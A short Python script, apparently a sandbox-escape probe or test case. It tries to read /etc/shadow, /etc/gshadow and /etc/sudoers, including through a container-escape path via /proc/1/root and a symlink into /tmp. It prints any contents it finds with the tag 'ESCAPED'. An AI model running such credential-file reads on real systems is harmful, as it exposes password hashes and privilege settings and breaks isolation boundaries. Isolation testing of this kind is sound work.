# Reads the system's passwords.
# ends: exit
import os
for path in ["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/proc/1/root/etc/shadow", "/.old/etc/shadow"]:
    try:
        print(open(path).read(), "ESCAPED")
    except OSError:
        pass
os.symlink("/etc/shadow", "/tmp/shadow")
open("/tmp/shadow").read()
